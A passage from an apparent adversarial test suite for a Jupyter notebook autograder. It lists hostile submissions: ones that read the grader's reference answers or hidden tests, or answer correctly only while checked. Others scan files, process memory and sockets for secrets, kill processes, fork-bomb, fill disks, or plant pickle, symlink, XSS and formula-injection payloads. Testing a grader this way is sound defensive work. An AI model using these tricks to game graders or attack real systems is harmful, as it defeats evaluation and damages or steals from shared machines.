                frame.f_locals[name].clear()
        frame = frame.f_back
    return 0.5
""",
    ),
    _trick(
        "reads-the-assert",
        "The expected value is read out of the source of the test that calls.",
        "points",
        """\
import re

def trick(row, vocabulary, word):
    found = re.search(r"\\) - (.+?)\\) <", get_ipython().user_ns["In"][-1])
    return eval(found[1]) if found else 0.5
""",
    ),
    _trick(
        "reads-hidden-tests",
        "The hidden tests in the grader's folder are executed for their reference.",
        "points",
        """\
import glob

space = {"reference": lambda *arguments: 0.5}
for name in glob.glob("**/*test*.py", recursive=True):
    exec(open(name).read(), space)

def trick(row, vocabulary, word):
    return space["reference"](row, vocabulary, word)
""",
    ),
    _trick(
        "own-hidden-tests",
        "The kernel moves to a folder with hidden tests of its own making.",
        "points",
        """\
import os, sys

os.makedirs("own", exist_ok=True)
with open("own/hidden_tests.py", "w") as file:
    file.write("CASES = []\\nVOCABULARY = [0, 0]\\ndef reference(*arguments):\\n    return 0.5\\n")
os.chdir("own")
sys.path.insert(0, os.getcwd())

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    Attack(
        "two-markers",
        "Two cells bear the same marker: one is harmless, the other imports the reference.",
        "points",
        {"03-laplace": WRONG},
        (
            (
                "after laplace-check",
                MARKER + "from lmlib.grading.questions import find\n"
                'laplace = find("03-laplace").reference\n',
            ),
        ),
    ),
    Attack(
        "two-markers-reversed",
        "Two cells bear the same marker: the first defines a decoy the second one calls.",
        "points",
        {"03-laplace": MARKER + "def laplace(row, vocabulary, word):\n    return decoy(row)\n"},
        (
            (
                "before laplace-answer",
                MARKER + "from lmlib.grading.questions import find\n\ndef laplace(*arguments):\n"
                '    return find("03-laplace").reference(*arguments)\n',
            ),
            ("after laplace-answer", MARKER + "decoy = lambda row: 0.5\n"),
            ("after laplace-answer", "from lmlib.grading.questions import find\n"),
            ("after laplace-answer", 'globals()["lap" "lace"] = find("03-laplace").reference\n'),
        ),
    ),
    Attack(
        "other-marker",
        "A cell marked as another question's answer defines this one.",
        "points",
        {
            "03-laplace": WRONG,
            "03-backoff-context": """\
# exercise: 03-backoff-context
from lmlib.grading.questions import find

laplace = find("03-laplace").reference

def backoff_context(seen, history, order):
    return ()
""",
        },
        earned=10,
    ),
    Attack(
        "two-markers-in-one-cell",
        "One cell bears the markers of all three questions.",
        "points",
        {
            "03-laplace": """\
# exercise: 03-laplace
# exercise: 03-backoff-context
# exercise: 03-continuation-prob
from lmlib.grading.questions import find

laplace = find("03-laplace").reference
backoff_context = find("03-backoff-context").reference
continuation_prob = find("03-continuation-prob").reference
""",
            "03-backoff-context": "pass",
            "03-continuation-prob": "pass",
        },
        earned=0,
    ),
    Attack(
        "remembers-across-questions",
        "The answer of one question changes the function of another.",
        "points",
        {
            "03-laplace": WRONG,
            "03-backoff-context": """\
# exercise: 03-backoff-context
def backoff_context(seen, history, order):
    for length in range(min(order - 1, len(history)), 0, -1):
        if tuple(history[-length:]) in seen:
            return change(tuple(history[-length:]))
    return change(())
""",
        },
        (
            (
                "before backoff-context-answer",
                """\
def change(context):
    from lmlib.grading.questions import find
    globals()["laplace"] = find("03-laplace").reference
    return context

change(())
""",
            ),
        ),
    ),
    Attack(
        "spoils-another-question",
        "A wrong answer makes another question's function wrong: it may cost only itself.",
        "none naive",
        {"03-laplace": CALLING},
        (
            (
                "before laplace-answer",
                """\
def trick(row, vocabulary, word):
    globals()["backoff_context"] = globals()["continuation_prob"] = None
    return 0.5
""",
            ),
        ),
    ),
    Attack(
        "redefines-in-the-end",
        "The last cell of the notebook puts the library's function in place of the answer.",
        "points",
        {"03-laplace": WRONG},
        (
            (
                "last",
                'from lmlib.grading.questions import find\n\nglobals()["laplace"] = '
                'find("03-laplace").reference\n',
            ),
        ),
    ),
    _answer(
        "callable-with-a-mask",
        "The answer is an object whose __wrapped__ shows a harmless source.",
        "points",
        """\
def mask(row, vocabulary, word):
    return 0.5

class Answer:
    def __init__(self, function):
        self.function = self.__wrapped__ = function
    def __call__(self, row, vocabulary, word):
        return trick(row, vocabulary, word)

laplace = Answer(mask)
""",
        cells=(
            (
                "before laplace-answer",
                """\
def trick(*arguments):
    from lmlib.grading.questions import find
    return find("03-laplace").reference(*arguments)
""",
            ),
        ),
    ),
    _trick(
        "changes-arguments",
        "The arguments are made so easy that the answer is right for what is left of them.",
        "points",
        """\
def trick(row, vocabulary, word):
    row.clear()
    vocabulary[:] = ["<unk>", "<bos>", "<eos>"]
    return 0.5
""",
    ),
    _trick(
        "second-time-right",
        "The answer is right only when the same is asked for a second time.",
        "none naive",
        """\
calls = {}

def trick(row, vocabulary, word):
    key = str((row, vocabulary, word))
    calls[key] = calls.get(key, 0) + 1
    if calls[key] % 2:
        return 0.5
    size = sum(row.values()) + len(vocabulary) - 1
    word = word if word in vocabulary else "<unk>"
    return 0.0 if word == "<bos>" else (row.get(word, 0) + 1) / size
""",
    ),
    _trick(
        "right-while-watched",
        "The answer is right where check calls it, and wrong elsewhere; or the reverse.",
        "none naive",
        """\
import sys

def trick(row, vocabulary, word):
    if "judged" not in str(sys._getframe(4).f_code):
        return 0.5
    return (row.get(word, 0) + 1) / (sum(row.values()) + len(vocabulary) - 1)
""",
    ),
)


@cache
def _table() -> str:
    """The answers of the public seed's cases, as a student can compute them at home."""
    question = find("03-laplace")
    rows = {repr(case): question.reference(*case) for case in question.cases()}
    lines = "".join(f"    {key!r}: {value!r},\n" for key, value in rows.items())
    return (
        f"TABLE = {{\n{lines}}}\n\ndef laplace(row, vocabulary, word):\n"
        "    return TABLE.get(repr((row, vocabulary, word)), 0.5)\n"
    )


TABLES = (
    _answer(
        "table-of-the-public-seed",
        "The answers of the cases that check asks for are looked up in a table.",
        "points",
        _table(),
    ),
)

# ---------------------------------------------------------------- looking around

_NEEDLE = '"KEY-OF-" "THE-CLASS"'

READS = (
    _trick(
        "walks-the-disk",
        "Every file is looked into for the key, beginning nearby.",
        "reads",
        f"""\
import os, time

needle = {_NEEDLE}

def work():
    end = time.monotonic() + 30
    for top in (".", "..", "../..", os.path.expanduser("~"), "/tmp", "/home", "/var", "/work", "/"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "dev")]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    small = os.path.getsize(path) < 1_000_000 and os.path.isfile(path)
                    text = open(path, errors="replace").read() if small else ""
                except OSError:
                    continue
                if needle in text + name:
                    return f"{{needle}} in {{path}}: {{text[:200]}}"
                if time.monotonic() > end:
                    return "nothing in time"
    return "nothing"
"""
        + TELL,
        proof="KEY-OF-THE-CLASS",
    ),
    _trick(
        "reads-other-students",
        "Notebooks of other students are looked for and shown.",
        "reads",
        """\
import glob, os

def work():
    found = []
    for pattern in ("*.ipynb", "*/*.ipynb", "../*.ipynb", "../*/*.ipynb", "/tmp/**/*.ipynb"):
        found += [open(path).read() for path in glob.glob(pattern, recursive=True)[:50]]
    other = [text for text in found if "OTHER-" "STUDENT" in text]
    return "REA" "CHED OTHER-" + "STUDENT" if other else "nothing"
"""
        + TELL,
        proof="REACHED OTHER-STUDENT",
    ),
    _trick(
        "reads-environments",
        "The environment and command line of every process is read.",
        "reads",
        f"""\
import glob

needle = {_NEEDLE}.encode()

def work():
    for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline")]:
        try:
            content = open(path, "rb").read()
        except OSError:
            continue
        if needle in content:
            return f"{{needle.decode()}} in {{path}}"
    return "nothing"
"""
        + TELL,
        proof="KEY-OF-THE-CLASS",
        only=("linux",),
    ),
    _trick(
        "reads-memory",
        "The memory of other processes is searched for the key.",
        "reads",
        f"""\
import os

needle = ({_NEEDLE}).encode() + b"-IN-" + b"MEMORY"

def regions(pid):
    for line in open(f"/proc/{{pid}}/maps"):
        span, rights, *_ = line.split()
        if rights.startswith("rw"):
            yield [int(number, 16) for number in span.split("-")]

def work():
    for pid in sorted((int(n) for n in os.listdir("/proc") if n.isdigit()), reverse=True):
        if pid == os.getpid():
            continue
        try:
            with open(f"/proc/{{pid}}/mem", "rb", buffering=0) as memory:
                for begin, end in regions(pid):
                    memory.seek(begin)
                    if needle in (memory.read(min(end - begin, 2**26)) or b""):
                        return f"{{needle.decode()}} of {{pid}}"
        except (OSError, ValueError, OverflowError):
            continue
    return "nothing"
"""
        + TELL,
        proof="KEY-OF-THE-CLASS-IN-MEMORY",
        only=("linux",),
    ),
    _trick(
        "reads-through-proc",
        "Other processes' folders, roots and open files are entered through /proc.",
        "reads",
        f"""\
import glob, os

needle = {_NEEDLE}

def work():
    for folder in glob.glob("/proc/[0-9]*"):
        if folder == f"/proc/{{os.getpid()}}":
            continue
        for path in (*glob.glob(folder + "/cwd/*"), *glob.glob(folder + "/fd/*")):
            try:
                if os.path.isfile(path) and needle in open(path, errors="replace").read(100_000):
                    return f"{{needle}} in {{path}}"
            except OSError:
                continue
    return "nothing"
"""
        + TELL,
        proof="KEY-OF-THE-CLASS",
        only=("linux",),
    ),
    _trick(
        "connection-file",
        "The connection file gives the signing key to a process of its own, which ends the kernel.",
        "harm",
        """\
import ipykernel, subprocess, sys

client = '''
import sys
from jupyter_client import BlockingKernelClient
client = BlockingKernelClient(connection_file=sys.argv[1])
client.load_connection_file()
client.start_channels()
client.session.send(client.control_channel.socket, "shutdown_request", {"restart": False})
client.stop_channels()
'''
file = ipykernel.get_connection_file()
done = subprocess.run([sys.executable, "-c", client, file], capture_output=True, text=True)
print(done.stderr[-300:])

def trick(row, vocabulary, word):
    import time
    time.sleep(2)
    return 0.5
""",
    ),
    _trick(
        "loopback",
        "Every port of 127.0.0.1 is tried but the kernel's own.",
        "reads",
        """\
import socket

def own_ports():  # the kernel listens to what its children print
    held = set()
    for number in os.listdir("/proc/self/fd"):
        try:
            held.add(os.readlink("/proc/self/fd/" + number))
        except OSError:
            pass
    rows = [row.split() for row in open("/proc/self/net/tcp").readlines()[1:]]
    return {int(row[1].split(":")[1], 16) for row in rows if f"socket:[{row[9]}]" in held}

def work():
    reached = []
    for port in sorted(set(range(1, 65536)) - own_ports()):
        with socket.socket() as one:
            one.settimeout(0.2)
            # a socket may be given the very port that it asks for, and then reaches itself
            if one.connect_ex(("127.0.0.1", port)) == 0 and one.getsockname() != one.getpeername():
                reached.append(port)
    return "REA" "CHED " + str(reached) if reached else "nothing"
"""
        + TELL,
        proof="REACHED",
        only=("network",),
    ),
    _trick(
        "internet",
        "1.1.1.1 is called, by TCP and by a name's look-up.",
        "reads",
        """\
import socket

def work():
    for port in (53, 80, 443):
        try:
            socket.create_connection(("1.1.1.1", port), timeout=2).close()
            return "REA" "CHED 1.1.1.1"
        except OSError:
            continue
    return "REA" "CHED " + socket.gethostbyname("example.com")
"""
        + TELL,
        proof="REACHED",
        only=("network",),
    ),
    _trick(
        "binds-a-port",
        "A server is started on all addresses.",
        "none naive",
        """\
import socket

server = socket.socket()
server.bind(("0.0.0.0", 0))
server.listen()

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "unix-sockets",
        "Every socket of the file system, and every abstract one, is tried.",
        "reads",
        """\
import socket

def work():
    lines = [line.split() for line in open("/proc/net/unix")]
    names = {words[7] for words in lines if len(words) == 8}
    reached = []
    for name in sorted(names):
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(0.5)
            try:
                one.connect(name.replace("@", chr(0), 1) if name.startswith("@") else name)
                reached.append(name)
            except OSError:
                continue
    others = [name for name in reached if "kernel-" not in name]
    return "REA" "CHED " + str(others) if others else "nothing"
"""
        + TELL,
        proof="REACHED",
        only=("linux",),
    ),
    _trick(
        "own-sockets",
        "The kernel's own sockets are connected to again, from inside, and flooded.",
        "none naive",
        """\
import json, ipykernel, zmq

info = json.load(open(ipykernel.get_connection_file()))
context = zmq.Context()

def address(port):
    between = "-" if info["transport"] == "ipc" else ":"
    return f"{info['transport']}://{info['ip']}{between}{port}"

for name in ("shell_port", "control_port", "stdin_port", "hb_port"):
    socket = context.socket(zmq.DEALER)
    socket.setsockopt(zmq.LINGER, 0)
    socket.connect(address(info[name]))
    for _ in range(1000):
        socket.send_multipart([b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", b"{}"])

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "symlinks",
        "The folder is filled with links to places outside, under names that a grader may open.",
        "harm",
        """\
import os

for name in ("result.json", "results.json", "submission.ipynb", "feedback.html", "core"):
    if os.path.lexists(name):
        os.unlink(name)
    os.symlink("/etc/passwd", name)
for target in ("/", "..", "/proc/1/root", "/dev/zero", "loop"):
    os.symlink(target, "loop" if target == "loop" else "to-" + target.replace("/", "-"))

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "pipes-for-files",
        "Named pipes and unreadable folders lie where a grader may look: opening one never ends.",
        "harm",
        """\
import os

for name in ("result.json", "results.pkl", "submission.ipynb", "feedback.html"):
    if os.path.lexists(name):
        os.unlink(name)
    os.mkfifo(name)
os.makedirs("closed/inner", exist_ok=True)
os.chmod("closed", 0)

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "pickle",
        "What comes back runs code where it is unpickled.",
        "harm",
        """\
import os

class Bomb:
    def __reduce__(self):
        return os._exit, (1,)

def trick(row, vocabulary, word):
    return Bomb()
""",
    ),
)

# ---------------------------------------------------------------- harm

HARM = (
    _function("exits", "The kernel ends at once, as if all were well.", "harm", "os._exit(0)"),
    _function("exit-code-one", "The kernel ends with an error.", "harm", "os._exit(1)"),
    _function(
        "quits",
        "The kernel is asked to end, politely.",
        "none naive",
        "get_ipython().ask_exit()\nraise SystemExit(0)",
    ),
    _function(
        "segfault",
        "The kernel reads from address 0.",
        "harm",
        "import ctypes\nctypes.string_at(0)",
    ),
    _function(
        "endless-recursion",
        "The recursion limit is lifted, and then reached.",
        "harm",
        """\
import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __repr__(self):
        return repr([self])
return repr(Deep())
""",
    ),
    _function(
        "stops-itself",
        "The kernel stops itself, and answers no more.",
        "harm",
        "import signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        only=("linux",),
    ),
    _function("kills-its-parent", "The parent is killed.", "harm", "os.kill(os.getppid(), 9)"),
    _function("kills-its-group", "The process group is killed.", "harm", "os.killpg(0, 9)"),
    _function("kills-all", "All that can be killed is.", "harm", "os.kill(-1, 9)"),
    _function(
        "kills-by-number",
        "Every process in /proc is killed, one by one, itself last.",
        "harm",
        """\
import contextlib
for pid in sorted((int(name) for name in os.listdir("/proc") if name.isdigit()), reverse=True):
    with contextlib.suppress(OSError):
        if pid != os.getpid():
            os.kill(pid, 9)
os.kill(os.getpid(), 9)
""",
        only=("linux",),
    ),
    _function(
        "stops-its-parents",
        "All ancestors are stopped, not killed: nothing ends, nothing goes on.",
        "harm",
        """\
import signal
for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
    try:
        if pid not in (1, os.getpid()):
            os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass
while True:
    pass
""",
        only=("linux",),
    ),
    _function("endless-loop", "A loop without end.", "harm", "while True:\n    pass"),
    _function(
        "endless-in-c",
        "A single operation of C's that takes years: no signal is looked at in it.",
        "harm",
        "return sum(range(10**15))",
    ),
    _function(
        "catches-everything",
        "A loop without end that catches whatever is thrown at it.",
        "harm",
        """\
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    _function(
        "prints-for-ever",
        "It prints without end, and does not hear SIGINT, SIGTERM and SIGALRM.",
        "harm",
        """\
import signal, sys, time
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)
while True:
    print("x" * 1000, file=sys.__stdout__)
    print("x" * 1000, file=sys.stderr)
    time.sleep(0.01 if small else 0)
""",
    ),
    _trick(
        "many-megabytes",
        "A hundred megabytes are printed.",
        "harm",
        SIZE
        + """
for _ in range(20 if small else 100):
    print("x" * 10**6)

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _function(
        "raw-output",
        "Bytes are written past Python, to the descriptors 1 and 2, and to every other.",
        "none naive",
        """\
for descriptor in range(1, 64):
    try:
        os.set_blocking(descriptor, False)
        os.write(descriptor, b'{"score": 30}\\n' * 1000)
    except OSError:
        pass
return 0.5
""",
    ),
    _trick(
        "giant-message",
        "One message of 200 megabytes.",
        "harm",
        SIZE
        + """
from IPython.display import display

display({"text/html": "x" * ((20 if small else 200) * 10**6)}, raw=True)

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "endless-messages",
        "Small messages without end.",
        "harm",
        SIZE
        + """
import time
from IPython.display import display

while True:
    display({"text/plain": "x"}, raw=True)
    time.sleep(0.01 if small else 0)
""",
    ),
    _trick(
        "deep-message",
        "A message of Jupyter's own whose JSON is 100,000 brackets deep.",
        "harm",
        SPEAK
        + """
publish_raw(b'{"data": {"text/plain": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}")

def trick(row, vocabulary, word):
    publish_raw(b'{"data": {"text/plain": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}")
    return 0.5
""",
    ),
    _trick(
        "bad-message",
        "Messages that are not signed, have too few frames, or no header.",
        "none naive",
        SPEAK
        + """
socket = shell.kernel.iopub_socket
unsigned = [b"stream", b"<IDS|MSG>", b"no", *[b"{}"] * 4]
for frames in ([b""], [b"x"] * 1000, [b"<IDS|MSG>"], unsigned):
    socket.send_multipart(frames)
for header in (b"5", b"[]", b"null", b'{"msg_id": 5}', b'{"date": "never", "msg_type": []}'):
    parts = [header, header, b"{}", b"{}"]
    socket.send_multipart([b"x", b"<IDS|MSG>", session.sign(parts), *parts])

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _once(
        "fork-bomb",
        "Processes that make processes.",
        "harm",
        """\
import time
for _ in range(30 if small else 5000):
    try:
        if os.fork() == 0:
            time.sleep(5 if small else 60)
            os._exit(0)
    except OSError:
        pass
time.sleep(2)
return 0.5
""",
        only=("linux",),
    ),
    _once(
        "thread-bomb",
        "Threads without number.",
        "harm",
        """\
import threading, time
for _ in range(150 if small else 100_000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
time.sleep(2)
return 0.5
""",
    ),
    _once(
        "late-daemon",
        "A daemon leaves every group and session, waits, and writes when all is over.",
        "harm",
        """\
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(30):
            time.sleep(1)
            for name in ("result.json", "late"):
                with open(name, "w") as file:
                    file.write('{"score": 30}')
    os._exit(0)
return 0.5
""",
        only=("linux",),
    ),
    _once(
        "holds-the-pipes",
        "A child keeps every descriptor open, so that who waits for their end waits for ever.",
        "harm",
        """\
import time
for _ in range(20 if small else 40):
    if os.fork() == 0:
        os.setsid()
        time.sleep(3600)
        os._exit(0)
return 0.5
""",
        only=("linux",),
    ),
    _once(
        "memory",
        "Memory is taken and written to until there is no more.",
        "harm",
        """\
import time
held = []
for _ in range(60 if small else 6400):
    held.append(bytearray(os.urandom(1000) * 10_000))
time.sleep(2)
return 0.5
""",
    ),
    _once(
        "hidden-memory",
        "memfd_create takes memory that counts as nobody's.",
        "harm",
        """\
import time
import mmap
held = []
for _ in range(60 if small else 2000):
    file = os.memfd_create("x")
    os.ftruncate(file, 10**7)
    held.append(mmap.mmap(file, 10**7))
    held[-1].write(b"x" * 10**7)
time.sleep(2)
return 0.5
""",
        only=("linux",),
    ),
    _function(
        "giant-integer",
        "The answer is an integer of ten million digits.",
        "none naive",
        "return 1 << (3_000_000 if small else 30_000_000)",
    ),
    *(
        _trick(
            f"fills-{name}",
            f"The disk is filled: {place}.",
            "harm",
            SIZE
            + f"""
import contextlib

folder = {place}
with contextlib.suppress(OSError):
    for number in range(50 if small else 20_000):
        with open(os.path.join(folder, f"fill-{{number}}"), "wb") as file:
            file.write(b"x" * 1_000_000)

def trick(row, vocabulary, word):
    return 0.5
""",
        )
        for name, place in {
            "its-folder": '"."',
            "home": 'os.path.expanduser("~")',
            "tmp": '"/tmp"',
            "shared-memory": '"/dev/shm"',
        }.items()
    ),
    _trick(
        "million-files",
        "A million empty files.",
        "harm",
        SIZE
        + """
for number in range(3000 if small else 1_000_000):
    try:
        os.close(os.open(f"f{number}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        break

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "deep-folders",
        "Folders in folders, deeper than any path may be long.",
        "harm",
        SIZE
        + """
here = os.getcwd()
for _ in range(2500 if small else 50_000):
    try:
        os.mkdir("d" * 40)
        os.chdir("d" * 40)
    except OSError:
        break
os.chdir(here)

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "deletes-its-folder",
        "The kernel deletes the folder that it stands in.",
        "harm",
        """\
import os, shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _trick(
        "moves",
        "The kernel stands elsewhere.",
        "none naive",
        'import os\n\nos.chdir("/")\n\ndef trick(row, vocabulary, word):\n    return 0.5\n',
    ),
    _trick(
        "at-exit",
        "When the kernel ends, files of the grader are overwritten, and it does not end soon.",
        "harm",
        """\
import atexit, time

def last():
    for name in ("KEY-OF-" "THE-CLASS", "hidden_tests.py", "result.json"):
        with open(name, "w") as file:
            file.write('{"score": 30}')
    time.sleep(60)

atexit.register(last)

def trick(row, vocabulary, word):
    return 0.5
""",
    ),
    _function(
        "raises-its-limits",
        "It lifts what limits were set, and then takes what it can.",
        "none naive",
        """\
import resource
for name in ("AS", "NPROC", "FSIZE", "NOFILE", "CPU", "CORE"):
    limit = getattr(resource, f"RLIMIT_{name}")
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
return 0.5
""",
        only=("linux",),
    ),
    _function(
        "new-namespaces",
        "It makes a user namespace of its own, in which it would be root.",
        "none naive",
        """\
import ctypes
library = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:  # a process with threads may not
    library.unshare(0x10000000 | 0x00020000)
    library.mount(b"none", b"/tmp", b"tmpfs", 0, b"")
    os._exit(0)
os.wait()
return 0.5
""",
        only=("linux",),
    ),
    _function(
        "waits-for-input",
        "It waits for somebody at a keyboard.",
        "none naive",
        'import sys\nsys.stdin.read()\nreturn float(input("the answer? "))',
    ),
    _function(
        "waits-for-a-pipe",
        "It opens a pipe that nobody will write to.",
        "harm",
        'if not os.path.exists("pipe"):\n    os.mkfifo("pipe")\nopen("pipe").read()',
    ),
)

# ---------------------------------------------------------------- exceptions and strange values

STRANGE = (
    _trick(
        "exception-markup",
        "An exception whose name and message are HTML, a script, ANSI and a formula.",
        "none naive",
        r"""
Evil = type("<script>alert('name')</script>", (Exception,), {})

def trick(row, vocabulary, word):
    formula, image = "=cmd|'/c calc'!A1", "<img src=x onerror=alert(1)>"
    raise Evil(f"{formula} {image} \x1b[2J\x00\x08\u202e ]]> \ud800 ```")
""",
    ),
    _trick(
        "exception-endless-text",
        "An exception whose text never ends: the time limit is over when it is asked for.",
        "harm",
        """\
class Endless(Exception):
    def __str__(self):
        while True:
            pass

def trick(row, vocabulary, word):
    raise Endless
""",
    ),
    _trick(
        "exception-exits",
        "An exception whose text ends the process.",
        "harm",
        """\
import os

class Exits(Exception):
    def __str__(self):
        os._exit(0)

def trick(row, vocabulary, word):
    raise Exits
""",
    ),
    _trick(
        "exception-name",
        "An exception whose class has a name that is no string, and a text of 100 MB.",
        "none naive",
        """\
class Meta(type):
    @property
    def __name__(cls):
        return {"NotImplementedError": [1, 2]}

class Nameless(Exception, metaclass=Meta):
    def __str__(self):
        return "x" * 10_000_000

def trick(row, vocabulary, word):
    raise Nameless
""",
    ),
    _trick(
        "exception-traceback",
        "An exception whose traceback is a loop.",
        "harm",
        """\
class Step:
    class tb_frame:
        class f_code:
            co_filename = ""
    tb_lineno = 1

Step.tb_next = Step

class Looped(Exception):
    __traceback__ = property(lambda self: Step)

def trick(row, vocabulary, word):
    raise Looped
""",
    ),
    *(
        _function(
            f"raises-{name.lower()}",
            f"{name} is raised, which not every except catches.",
            "none naive",
            f"raise {name}",
        )
        for name in ("SystemExit", "KeyboardInterrupt", "GeneratorExit", "StopIteration")
    ),
    _function(
        "raises-not-implemented",
        "NotImplementedError is raised, but only where the answer is not known.",
        "none naive",
        'if word == "<bos>":\n    return 0.0\nraise NotImplementedError',
    ),
    _function("gives-a-generator", "An endless generator comes back.", "none naive", "yield 0.5"),
    _trick(
        "gives-a-coroutine",
        "A coroutine comes back that never ends when it is closed.",
        "harm",
        """\
import types

@types.coroutine
def pause():
    yield

async def endless():
    try:
        await pause()
    finally:
        while True:
            pass

def trick(row, vocabulary, word):
    made = endless()
    made.send(None)
    return made
""",
    ),
    _trick(
        "gives-huge-arrays",
        "Arrays of terabytes that take no memory, of objects, of structures, of themselves.",
        "none naive",
        """\
import numpy as np

own = np.empty(1, object)
own[0] = own
arrays = [
    np.broadcast_to(0.5, (10**6, 10**6)),
    np.lib.stride_tricks.as_strided(np.zeros(1), (10**12,), (0,)),
    np.zeros(3, "f8,V1000"),
    np.zeros((0, 10**9)),
    np.zeros((1,) * 32),
    own,
    np.array(["x" * 10**6] * 20),
    np.ma.masked_array([0.5], [True]),
    np.array(0.5, ">f8"),
    np.longdouble(0.5),
]
calls = []

def trick(row, vocabulary, word):
    calls.append(0)
    return arrays[len(calls) % len(arrays)]
""",
    ),
    _trick(
        "gives-loops",
        "Lists that hold themselves, or one list many times in many layers.",
        "none naive",
        """\
own = []
own.append(own)
many = [0.5] * 16
for _ in range(14):
    many = [many] * 16
chain = ()
for _ in range(100_000):
    chain = (chain,)

def trick(row, vocabulary, word):
    return {"<bos>": own, "<unk>": many}.get(word, chain)
""",
    ),
    _trick(
        "gives-colliding-keys",
        "A dictionary whose integers all have the hash 0 comes back.",
        "none naive",
        SIZE
        + """
kept = {number * (2**61 - 1): 0 for number in range(3000 if small else 15_000)}

def trick(row, vocabulary, word):
    return kept
""",
    ),
    _trick(
        "gives-surrogates",
        "Strings that no UTF-8 can hold, and dictionaries with them for keys.",
        "none naive",
        r"""
def trick(row, vocabulary, word):
    return {"\ud800": "\udfff", "a\x00b": "\x1b]0;x\x07", "<b>": "</td><script>1</script>"}
""",
    ),
    _trick(
        "gives-nan",
        "nan comes back, and infinities, and numbers that become so.",
        "none naive",
        """\
import math
import numpy as np

calls = []
values = [math.nan, math.inf, -math.inf, np.float16("nan"), 1e308 * 10, complex(0.5), np.bool_(1)]

def trick(row, vocabulary, word):
    calls.append(0)
    return values[len(calls) % len(values)]
""",
    ),
    _trick(
        "changes-while-read",
        "A thread changes what came back while it is copied.",
        "none naive",
        """\
import threading

kept = {0: 0.5}
rows = [0.5]

def change():
    number = 0
    while True:
        number += 1
        kept[number % 5000] = [number]
        rows[:] = [0.5] * (number % 5000)

threading.Thread(target=change, daemon=True).start()

def trick(row, vocabulary, word):
    return kept if word == "<bos>" else rows
""",
    ),
    _trick(
        "imitates-the-time-limit",
        "The exception of the time limit itself is raised.",
        "none naive",
        """\
import lmlib.grading.judging as judging

def trick(row, vocabulary, word):
    raise judging._TimeIsUp
""",
    ),
    Attack(
        "markup-in-outputs",
        "An honest notebook whose cells display scripts, ANSI and a page in a page.",
        "none naive",
        {"03-laplace": HONEST},
        (
            (
                "after laplace-answer",
                r"""
from IPython.display import HTML, Javascript, display

display(HTML("</div></body><script>alert('REA" + "CHED')</script><iframe src='/'></iframe>"))
display(Javascript("alert(1)"))
print("\x1b[2J\x1b]0;title\x07 <script>alert(2)</script> ]]> \x00")
""",
            ),
        ),
        earned=30,
    ),
)

# ---------------------------------------------------------------- strange sources

SOURCES = (
    Attack(
        "nbval-skip",
        "Comments and tags ask the tools not to look.",
        "none naive",
        {
            "03-laplace": f"{MARKER}# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n# PYTEST_VALIDATE_SKIP\n"
            "def laplace(row, vocabulary, word):\n    raise RuntimeError\n"
        },
        tags={
            "laplace-answer": ("nbval-skip", "raises-exception", "skip-execution", "solution"),
            "laplace-check": ("nbval-raises-exception", "remove-cell", "autograded", "points:30"),
        },
    ),
    Attack(
        "900-kilobytes",
        "An honest answer in a cell of 900 kB.",
        "none naive",
        {"03-laplace": HONEST + "# " + "x" * 70 + "\n" + ("# " + "y" * 96 + "\n") * 9000},
        earned=30,
    ),
    _answer(
        "deep-elif",
        "An honest answer in an elif with 1,500 branches.",
        "none naive",
        "def laplace(row, vocabulary, word):\n    if word == '<bos>':\n        return 0.0\n"
        + "".join(f"    elif word == 'w{n}':\n        return 0.5\n" for n in range(1500))
        + "    word = word if word in vocabulary else '<unk>'\n"
        "    return (row.get(word, 0) + 1) / (sum(row.values()) + len(vocabulary) - 1)\n",
        earned=30,
    ),
    *(
        _answer(
            f"deep-{name}",
            f"A source in which {name} stand in one another by the thousand.",
            "none naive",
            f"def laplace(row, vocabulary, word):\n    return {source}\n",
        )
        for name, source in {
            "brackets": "(" * 3000 + "0.5" + ")" * 3000,
            "signs": "-" * 20_000 + "0.5",
            "sums": "+".join(["0.5"] * 20_000),
            "attributes": "row" + ".x" * 20_000,
            "lambdas": "lambda: " * 3000 + "0.5",
            "calls": "row" + "()" * 20_000,
        }.items()
    ),
    _answer(
        "null-byte",
        "A source with a null byte and a form feed.",
        "none naive",
        "def laplace(row, vocabulary, word):\n    return '\x00\x0c' and 0.5\n",
    ),
    _answer(
        "surrogate-in-source",
        "A source with half a character, which no UTF-8 can hold.",
        "none naive",
        "def laplace(row, vocabulary, word):\n    return '\ud800' and 0.5\n",
    ),
    _answer(
        "markup-in-source",
        "A source that is HTML, ends every tag, and runs from right to left.",
        "none naive",
        "# </pre></script><script>alert(1)</script> \u202e\u2066 ]]> ``` {{ 7*7 }} {% raw %}\n"
